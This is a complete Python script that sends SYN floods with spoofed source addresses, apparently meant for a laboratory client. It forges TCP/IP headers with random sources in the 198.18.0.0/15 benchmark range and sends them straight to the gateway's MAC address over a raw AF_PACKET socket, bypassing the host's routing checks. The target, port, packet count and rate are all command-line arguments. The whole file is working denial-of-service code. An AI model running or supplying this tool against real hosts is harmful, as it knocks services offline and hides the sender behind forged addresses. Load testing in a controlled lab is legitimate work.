"""SYNs from addresses that nobody has: flood.py ADDRESS PORT GATEWAY COUNT RATE, in the client of a laboratory.

They go to the gateway's MAC address, past the client's own routing, which would refuse such sources.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time

_BATCH = 64
_ETH_P_IP = 0x0800


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(rng: random.Random, target: bytes, port: int) -> bytes:
    source = struct.pack("!I", (198 << 24 | 18 << 16) + rng.randrange(1 << 17))
    tcp = struct.pack("!HHIIHHHH", rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, 5 << 12 | 2, 65535, 0, 0)
    total = checksum(source + target + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!HH", total, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, source, target)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


def main(address: str, port: int, gateway: str, count: int, rate: float) -> None:
    rng, target = random.Random(1), socket.inet_aton(address)
    to = ("eth0", _ETH_P_IP, 0, 0, bytes.fromhex(gateway.replace(":", "")))
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM) as out:
        began = time.monotonic()
        for sent in range(0, count, _BATCH):
            for _ in range(_BATCH):
                out.sendto(syn(rng, target, port), to)
            time.sleep(max(began + sent / rate - time.monotonic(), 0))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5]))
